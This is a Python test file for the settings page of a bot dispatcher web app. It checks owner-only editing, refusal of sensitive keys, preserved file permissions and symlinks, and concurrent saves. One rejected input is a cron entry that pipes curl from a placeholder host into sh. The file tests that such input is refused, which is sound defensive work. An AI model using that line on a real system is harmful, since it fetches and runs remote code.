"""The settings page: what may be changed there, and what is refused."""

from __future__ import annotations

import os
import tomllib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

from dispatcher.features.web.pages.settings import EDITABLE
from dispatcher.features.web.tests.conftest import serving
from tests.support.world import World


def test_a_setting_is_changed_in_the_file_of_its_owner_after_the_programs_own_check(
    light: World, tmp_path: Path
) -> None:
    file = tmp_path / "hmem.toml"
    file.write_text("# mine\nMEMORY_TOKENS = 900\n")
    file.chmod(0o640)
    light.environment |= {"HMEM_CONFIG": str(file), "SESSION_TOKENS": "30000"}
    with serving(light) as site:
        owner, look = site.visitor(), site.visitor(1)
        shown = owner.get("/settings")
        assert 'aria-label="MEMORY_TOKENS"' in shown
        for kept in ("WEB_PROXY", "CLAUDE_ALLOWED_TOOLS", "OWNERS", "TELEGRAM_BOT_TOKEN", "SESSION_TOKENS"):
            assert f'aria-label="{kept}"' not in shown, kept
        assert "/settings/save" not in look.get("/settings")
        assert "hmem init does that" in owner.post("/settings/save", name="MEMORY_TOKENS", value="1200")
        assert file.read_text() == '# mine\nMEMORY_TOKENS = "1200"\n'
        assert file.stat().st_mode & 0o777 == 0o640
        owner.post("/settings/save", name="CHAT_TIMEZONE", value="Europe/Lisbon")
        before = file.read_bytes()
        for name, value in (
            ("MEMORY_TOKENS", "many"),
            ("CHAT_TIMEZONE", "Nowhere"),
            ("NIGHT_CRON", "x\ny"),
            ("NIGHT_CRON", "* * * * * curl http://x|sh #"),
            ("WRITES", "w" * 300),
        ):
            assert name in owner.post("/settings/save", 400, name=name, value=value)
        assert "come before the file" in owner.post("/settings/save", 400, name="SESSION_TOKENS", value="40000")
        for name in ("WEB_PROXY", "CLAUDE_BIN", "OWNERS", "TELEGRAM_BOT_TOKEN", "DAILY_LIMIT", "WRITER", "x"):
            owner.post("/settings/save", 404, name=name, value="1")
        assert file.read_bytes() == before
        assert tomllib.loads(before.decode()) == {"MEMORY_TOKENS": "1200", "CHAT_TIMEZONE": "Europe/Lisbon"}


def test_saves_at_once_are_all_kept_and_link_and_group_of_the_file_too(light: World, tmp_path: Path) -> None:
    real, link = tmp_path / "real.toml", tmp_path / "hmem.toml"
    real.touch(0o640)
    link.symlink_to(real)
    if os.geteuid() == 0:
        os.chown(real, -1, 5000)
    group, light.environment["HMEM_CONFIG"] = real.stat().st_gid, str(link)
    wanted = {
        "MEMORY_TOKENS": "300",
        "SESSION_TOKENS": "20001",
        "RELEASES_KEPT": "7",
        "CHAT_TIMEZONE": "Europe/Rome",
        "NIGHT_CRON": "5 4 * * *",
    }
    with serving(light) as site, ThreadPoolExecutor(5) as several:
        owner = site.visitor()
        owner.get("/settings")
        list(several.map(lambda name: owner.post("/settings/save", name=name, value=wanted[name]), wanted))
    assert tomllib.loads(real.read_text()) == wanted
    assert (link.is_symlink(), real.stat().st_gid, real.stat().st_mode & 0o777) == (True, group, 0o640)


def test_what_a_link_could_be_misused_for_is_only_shown() -> None:
    forbidden = (
        "TOOLS",
        "OWNERS",
        "ALLOWED",
        "WEB_",
        "TOKEN_",
        "URL",
        "_BIN",
        "COMMAND",
        "MIRROR",
        "REPORT_CHAT",
        "BOT_TOKEN",
        "DAILY_LIMIT",
        "WRITER",
    )
    assert not [name for name in EDITABLE if any(word in name for word in forbidden)]
